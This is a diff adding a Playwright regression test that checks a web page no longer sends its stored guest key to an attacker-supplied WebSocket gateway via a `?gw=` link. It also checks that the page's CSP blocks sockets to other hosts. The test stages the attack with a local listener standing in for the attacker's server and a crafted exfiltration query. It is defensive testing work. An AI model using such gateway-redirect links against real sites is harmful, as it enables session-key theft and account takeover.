@@ -279,3 +279,100 @@ async def test_unavailable_banner_while_talkroom_restarts(
         raise
     finally:
         await ctx.close()
+
+
+class Listener:
+    """A WebSocket server on a free port that records every connection and message: the
+    attacker's gateway in a phishing link."""
+
+    def __init__(self) -> None:
+        self.connections = 0
+        self.messages: list[bytes | str] = []
+        self.server: Any = None
+
+    async def __aenter__(self) -> Listener:
+        from websockets.asyncio.server import serve
+
+        async def record(ws: Any) -> None:
+            self.connections += 1
+            async for message in ws:
+                self.messages.append(message)
+
+        self.server = await serve(record, "127.0.0.1", 0)
+        return self
+
+    async def __aexit__(self, *exc: object) -> None:
+        self.server.close()
+        await self.server.wait_closed()
+
+    @property
+    def url(self) -> str:
+        port = self.server.sockets[0].getsockname()[1]
+        return f"ws://127.0.0.1:{port}/ws"
+
+
+async def test_a_link_cannot_send_the_guest_key_elsewhere(
+    browser: Any, up_cluster: UpCluster, artifacts: Path, page_errors: list[str]
+) -> None:
+    """Issue 10 item 4: `/?gw=<attacker>` used to make the page send the stored guest key to
+    the attacker's server (who then logged in as the victim). The page connects only to the
+    configured gateway, and its CSP blocks any other WebSocket."""
+    expect = _expect()
+    ctx = await browser.new_context(viewport=VIEWPORT, locale="en-US")
+    pages: dict[str, Any] = {}
+    try:
+        async with Listener() as attacker:
+            page, uid = await open_page(ctx, up_cluster.web_url, page_errors)
+            pages["page"] = page
+            key = await page.evaluate("localStorage.getItem('netbus.guestKey')")
+            assert isinstance(key, str) and len(key) == 32
+            await page.close()
+
+            # The victim follows the attacker's link: same browser, same stored key.
+            for query in (f"?gw={attacker.url}", f"?gw={attacker.url}&proto=buf"):
+                link = await ctx.new_page()
+                pages["link"] = link
+                watch_errors(link, page_errors)
+                await link.goto(up_cluster.web_url + query)
+                await expect(tid(link, "status")).to_have_attribute("data-state", "ready")
+                await expect(tid(link, "uid")).to_have_text(uid)  # the real gateway, same key
+                await expect(tid(link, "gateway-url")).to_have_text(up_cluster.ws_url)
+                await link.close()
+            assert key == await page_key(ctx, up_cluster.web_url)
+
+            # Even script running in the page cannot open a socket to another host.
+            probe = await ctx.new_page()
+            pages["probe"] = probe
+            violations: list[str] = []
+            probe.on("console", lambda msg: violations.append(msg.text))
+            await probe.goto(up_cluster.web_url)
+            await expect(tid(probe, "status")).to_have_attribute("data-state", "ready")
+            outcome = await probe.evaluate(
+                """url => new Promise(resolve => {
+                    try {
+                        const ws = new WebSocket(url);
+                        ws.onopen = () => resolve("open");
+                        ws.onerror = () => resolve("blocked");
+                    } catch (err) { resolve("blocked: " + err.name); }
+                })""",
+                attacker.url,
+            )
+            assert outcome.startswith("blocked"), outcome
+            assert any("Content Security Policy" in text for text in violations), violations
+        assert attacker.connections == 0, attacker.messages
+        assert not [m for m in attacker.messages if key in str(m)]
+    except BaseException:
+        await screenshot_failure(pages, artifacts)
+        raise
+    finally:
+        await ctx.close()
+
+
+async def page_key(context: Any, url: str) -> str:
+    """The guest key the page keeps in ``context``'s localStorage."""
+    page = await context.new_page()
+    try:
+        await page.goto(url)
+        return str(await page.evaluate("localStorage.getItem('netbus.guestKey')"))
+    finally:
+        await page.close()
